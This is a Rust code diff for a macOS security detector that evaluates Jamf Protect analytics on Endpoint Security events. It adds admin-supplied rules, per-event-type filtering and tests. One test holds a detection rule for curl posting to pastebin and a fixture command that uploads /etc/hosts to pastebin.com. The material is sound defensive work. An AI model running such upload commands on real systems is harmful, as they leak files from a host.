@@ -1,7 +1,11 @@
 //! Detector: runs Jamf Protect custom analytics — the YAML format of Jamf's public library,
 //! NSPredicate filters over `$event` — on Endpoint Security events.
 //!
-//! The public corpus is bundled (MIT, see `analytics/NOTICE.md`). Each event is mapped once
+//! The public corpus is bundled (MIT, see `analytics/NOTICE.md`); the admin adds their own
+//! with `config_dirs = { analytics = "<dir>" }` (config key `analytics`: every `*.yaml` /
+//! `*.yml` under the directory, read by the host) and may drop the corpus with
+//! `bundled = "false"`. An analytic that does not parse is skipped with a warning naming
+//! its file, line and column; the others load. Each event is mapped once
 //! to the Jamf event model (`GPProcessEvent` from exec/exit, `GPFSEvent` from
 //! create/rename/unlink/close/write with Jamf's type codes, parent and responsible from the
 //! agent's process table, `signerType` from the signer class), then every analytic of that
@@ -164,13 +168,22 @@ fn process(p: &Process, args: &[String]) -> Value {
 /// The acting process with `parent` and `responsible` resolved through the process table
 /// (their arguments from `images`), and `pgprocess`, the process-group leader, from
 /// `images` (ES names it only by pid; itself when it leads its group).
-fn process_with_relatives(p: &Process, args: &[String], images: &Images) -> Value {
+fn process_with_relatives(p: &Process, args: &[String], images: &Images, relatives: bool) -> Value {
     let mut value = process(p, args);
+    if !relatives {
+        return value;
+    }
+    // Relatives the detector saw exec are at hand; only the others cost a host lookup.
     let relative = |token: Option<AuditToken>| {
-        token
-            .filter(|t| (t.pid, t.pidversion) != (p.token.pid, p.token.pidversion))
-            .and_then(ward_sdk::process::lookup)
-            .map_or(Value::Null, |q| process(&q, images.args(q.token)))
+        let token = token.filter(|t| (t.pid, t.pidversion) != (p.token.pid, p.token.pidversion));
+        let Some(token) = token else {
+            return Value::Null;
+        };
+        match images.by_token.get(&(token.pid, token.pidversion)) {
+            Some((q, q_args)) => process(q, q_args),
+            None => ward_sdk::process::lookup(token)
+                .map_or(Value::Null, |q| process(&q, images.args(q.token))),
+        }
     };
     let leader = if p.group_id == p.token.pid {
         process(p, args)
@@ -197,7 +210,25 @@ fn is_dir(file: &File) -> bool {
 /// `images` supplies the arguments of processes whose exec was seen earlier (the acting
 /// process of exit and file events, relatives) and the process-group leader.
 pub fn jamf_event(event: &Event, images: &Images) -> Option<(&'static str, Value)> {
-    let actor = || process_with_relatives(&event.process, images.args(event.process.token), images);
+    jamf_event_with(event, images, &|_, _| true)
+}
+
+/// [`jamf_event`], building the acting process's `parent`, `responsible` and `pgprocess`
+/// only when `relatives(inputType, type)` says a loaded analytic may read them (they cost
+/// three process objects and possibly host lookups per event).
+pub fn jamf_event_with(
+    event: &Event,
+    images: &Images,
+    relatives: &dyn Fn(&str, i64) -> bool,
+) -> Option<(&'static str, Value)> {
+    let actor = |input: &str, kind: i64| {
+        process_with_relatives(
+            &event.process,
+            images.args(event.process.token),
+            images,
+            relatives(input, kind),
+        )
+    };
     let fs =
         |kind: i64, path: &str, prev: Option<&str>, new: bool, new_dir: bool, modified: bool| {
             json!({
@@ -209,7 +240,7 @@ pub fn jamf_event(event: &Event, images: &Images) -> Option<(&'static str, Value
                 "isNewDirectory": new_dir,
                 "isModified": modified,
                 "file": {"path": path},
-                "process": actor(),
+                "process": actor("GPFSEvent", kind),
             })
         };
     Some(match &event.data {
@@ -217,11 +248,16 @@ pub fn jamf_event(event: &Event, images: &Images) -> Option<(&'static str, Value
             "GPProcessEvent",
             json!({
                 "type": 1,
-                "process": process_with_relatives(&exec.target, &exec.args, images),
+                "process": process_with_relatives(
+                    &exec.target,
+                    &exec.args,
+                    images,
+                    relatives("GPProcessEvent", 1),
+                ),
             }),
         ),
         EventData::Exit(exit) => {
-            let mut p = actor();
+            let mut p = actor("GPProcessEvent", 2);
             if let Value::Object(map) = &mut p {
                 map.insert(
                     "exitCode".into(),
@@ -582,19 +618,85 @@ impl FileContents {
 /// `read_file_contents`) what it needs to read files.
 pub struct JamfAnalytics {
     analytics: Vec<Analytic>,
+    /// Per analytic (same order): the Jamf event type code its filter pins, if any, so
+    /// an analytic is not evaluated on events of another type.
+    event_types: Vec<Option<i64>>,
+    /// Per analytic: true if its filter or context may read a relative of the acting
+    /// process (`parent`, `responsible`, `pgprocess`).
+    reads_relatives: Vec<bool>,
     images: Images,
     contents: Option<FileContents>,
+}
+
+/// Config key: the admin's own analytics, a JSON object of file name → YAML text (the
+/// host builds it from `config_dirs = { analytics = "<dir>" }`).
+pub const ANALYTICS: &str = "analytics";
+/// Config key: `"false"` leaves the bundled corpus out.
+pub const BUNDLED_KEY: &str = "bundled";
+
+/// Parses `(file, yaml)` pairs; each failure is logged naming the file, line and column.
+fn parse_all<'a>(
+    files: impl Iterator<Item = (&'a str, &'a str)>,
+    origin: &str,
+    analytics: &mut Vec<Analytic>,
+) -> usize {
+    let mut failed = 0;
+    for (path, yaml) in files {
+        match ward_predicate::parse_analytic(yaml) {
+            Ok(a) => analytics.push(a),
+            Err(e) => {
+                failed += 1;
+                let message = format!(
+                    "{origin} analytic {path}:{}:{}: skipped: {}",
+                    e.line, e.column, e.message
+                );
+                // Three corpus files are malformed as published: known, not news.
+                if origin == "bundled" {
+                    ward_sdk::log::info(&message);
+                } else {
+                    ward_sdk::log::warn(&message);
+                }
+            }
+        }
+    }
+    failed
+}
+
+/// The admin's analytics from config, or why they could not be read.
+fn admin_analytics(analytics: &mut Vec<Analytic>) {
+    let Some(text) = ward_sdk::config(ANALYTICS) else {
+        return;
+    };
+    let files: Map<String, Value> = match serde_json::from_str(&text) {
+        Ok(Value::Object(files)) => files,
+        _ => {
+            ward_sdk::log::error(
+                "config `analytics` is not a JSON object of file name to YAML text;                  set it with config_dirs = { analytics = \"<dir>\" }",
+            );
+            return;
+        }
+    };
+    let before = analytics.len();
+    let failed = parse_all(
+        files
+            .iter()
+            .filter_map(|(path, yaml)| yaml.as_str().map(|y| (path.as_str(), y))),
+        "admin",
+        analytics,
+    );
+    ward_sdk::log::info(&format!(
+        "{} admin analytics loaded, {failed} skipped",
+        analytics.len() - before
+    ));
 }
 
 impl Default for JamfAnalytics {
     fn default() -> Self {
         let mut analytics = Vec::new();
-        for (path, yaml) in BUNDLED {
-            match ward_predicate::parse_analytic(yaml) {
-                Ok(a) => analytics.push(a),
-                Err(e) => ward_sdk::log::info(&format!("analytic {path} skipped: {e}")),
-            }
+        if ward_sdk::config(BUNDLED_KEY).as_deref() != Some("false") {
+            parse_all(BUNDLED.iter().copied(), "bundled", &mut analytics);
         }
+        admin_analytics(&mut analytics);
         Self::with(analytics)
     }
 }
@@ -609,8 +711,29 @@ impl JamfAnalytics {
         } else {
             None
         };
+        let event_types = analytics
+            .iter()
+            .map(|a| {
+                a.filter
+                    .required_value("event", &["type"])
+                    .and_then(Value::as_f64)
+                    .filter(|t| t.fract() == 0.0)
+                    .map(|t| t as i64)
+            })
+            .collect();
+        let reads_relatives = analytics
+            .iter()
+            .map(|a| {
+                let text = format!("{} {:?}", a.filter.source, a.context);
+                ["parent", "responsible", "pgprocess"]
+                    .iter()
+                    .any(|k| text.contains(k))
+            })
+            .collect();
         Self {
             analytics,
+            event_types,
+            reads_relatives,
             images: Images::default(),
             contents,
         }
@@ -639,6 +762,15 @@ impl Detector for JamfAnalytics {
             "exec", "exit", "create", "rename", "unlink", "close", "write",
         ])
         .config_option(
+            ANALYTICS,
+            "the admin's own analytics: set with config_dirs = { analytics = \"<dir>\" } \
+             (every *.yaml / *.yml under it); they run beside the bundled corpus",
+        )
+        .config_option(
+            BUNDLED_KEY,
+            "\"false\" leaves the bundled public corpus out",
+        )
+        .config_option(
             READ_FILE_CONTENTS,
             "\"true\" lets analytics read the property lists they inspect \
              (file.contentsAsDict, file.snapshotData): Terminal and Time Machine preferences, \
@@ -657,7 +789,16 @@ impl Detector for JamfAnalytics {
             self.images.forget(event.process.token);
             self.images.record(&exec.target, &exec.args);
         }
-        let mapped = jamf_event(event, &self.images);
+        let relatives = |input: &str, kind: i64| {
+            self.analytics
+                .iter()
+                .zip(&self.event_types)
+                .zip(&self.reads_relatives)
+                .any(|((a, pinned), reads)| {
+                    *reads && a.input_type == input && pinned.is_none_or(|t| t == kind)
+                })
+        };
+        let mapped = jamf_event_with(event, &self.images, &relatives);
         if let EventData::Exit(_) = &event.data {
             self.images.forget(event.process.token);
         }
@@ -673,8 +814,12 @@ impl Detector for JamfAnalytics {
         let mut tags: Vec<Value> = Vec::new();
         let mut context = Map::new();
         let mut findings = Vec::new();
-        for a in &self.analytics {
-            if a.input_type != input_type || !a.filter.eval(&vars) {
+        let event_type = jamf.get("type").and_then(Value::as_i64);
+        for (a, pinned) in self.analytics.iter().zip(&self.event_types) {
+            if a.input_type != input_type
+                || pinned.is_some_and(|t| Some(t) != event_type)
+                || !a.filter.eval(&vars)
+            {
                 continue;
             }
             let mut finding = Finding::new(
@@ -959,6 +1104,13 @@ mod tests {
     fn the_bundled_corpus_loads_all_well_formed_analytics() {
         assert_eq!(BUNDLED.len(), 80);
         assert_eq!(JamfAnalytics::default().len(), 77);
+        // Most filters pin the event type: those are skipped on events of another type.
+        let pinned = JamfAnalytics::default()
+            .event_types
+            .iter()
+            .filter(|t| t.is_some())
+            .count();
+        assert_eq!(pinned, 64);
     }
 
     /// Asserts each case fires on its hit and not on its near miss.
@@ -1931,6 +2083,94 @@ mod tests {
                 .iter()
                 .any(|r| r == "CaffeinateOnInteractiveCommandline")
         );
+    }
+
+    #[test]
+    fn relatives_are_built_only_for_analytics_that_read_them() {
+        let event = exec("/usr/bin/id", "com.apple.id", &["id"]);
+        let (_, full) = jamf_event(&event, &Images::default()).unwrap();
+        assert!(full["process"].get("parent").is_some());
+        let (_, lean) = jamf_event_with(&event, &Images::default(), &|_, _| false).unwrap();
+        assert!(lean["process"].get("parent").is_none());
+        assert_eq!(lean["process"]["path"], "/usr/bin/id");
+        let d = JamfAnalytics::default();
+        let reads = |name: &str| {
+            d.analytics
+                .iter()
+                .zip(&d.reads_relatives)
+                .find(|(a, _)| a.name == name)
+                .map(|(_, r)| *r)
+        };
+        assert_eq!(
+            reads("UserPrivilegeEscalationByDseditgroupAndSelfService"),
+            Some(true)
+        );
+        assert_eq!(reads("KeychainDumped"), Some(false));
+    }
+
+    #[test]
+    fn admin_analytics_load_beside_or_instead_of_the_corpus() {
+        let custom = "name: CustomCurlToPastebin\nlevel: 0\ninputType: GPProcessEvent\nseverity: High\n\
+                      filter: $event.type == 1 AND $event.process.name == \"curl\" AND \
+                      $event.process.commandLine CONTAINS \"pastebin.com\"\n";
+        let broken = "name: Broken\ninputType: GPProcessEvent\nfilter: $event.type ==\n";
+        testing::reset();
+        testing::set_config(
+            ANALYTICS,
+            &serde_json::json!({"custom.yaml": custom, "team/broken.yml": broken}).to_string(),
+        );
+        let mut d = JamfAnalytics::default();
+        assert_eq!(d.len(), 78);
+        let warned: Vec<String> = testing::logs().into_iter().map(|(_, m)| m).collect();
+        assert!(
+            warned
+                .iter()
+                .any(|m| m.starts_with("admin analytic team/broken.yml:3:")),
+            "{warned:?}"
+        );
+        assert!(
+            warned
+                .iter()
+                .any(|m| m == "1 admin analytics loaded, 1 skipped"),
+            "{warned:?}"
+        );
+        let hit = exec(
+            "/usr/bin/curl",
+            "com.apple.curl",
+            &["curl", "-d", "@/etc/hosts", "https://pastebin.com/api"],
+        );
+        let rules: Vec<String> = d
+            .on_event(&hit)
+            .unwrap()
+            .into_iter()
+            .map(|f| f.rule)
+            .collect();
+        assert!(
+            rules.contains(&"CustomCurlToPastebin".to_owned()),
+            "{rules:?}"
+        );
+        assert!(rules.contains(&"AllCurlActivity".to_owned()), "{rules:?}");
+        // Without the corpus only the admin's analytic runs.
+        testing::set_config(BUNDLED_KEY, "false");
+        let mut d = JamfAnalytics::default();
+        assert_eq!(d.len(), 1);
+        let rules: Vec<String> = d
+            .on_event(&hit)
+            .unwrap()
+            .into_iter()
+            .map(|f| f.rule)
+            .collect();
+        assert_eq!(rules, ["CustomCurlToPastebin"]);
+        // Not a JSON object: said once, the corpus still loads.
+        testing::reset();
+        testing::set_config(ANALYTICS, "/etc/ward/analytics");
+        assert_eq!(JamfAnalytics::default().len(), 77);
+        assert!(
+            testing::logs()
+                .iter()
+                .any(|(l, m)| l == "error" && m.contains("config_dirs"))
+        );
+        testing::reset();
     }
 
     #[test]
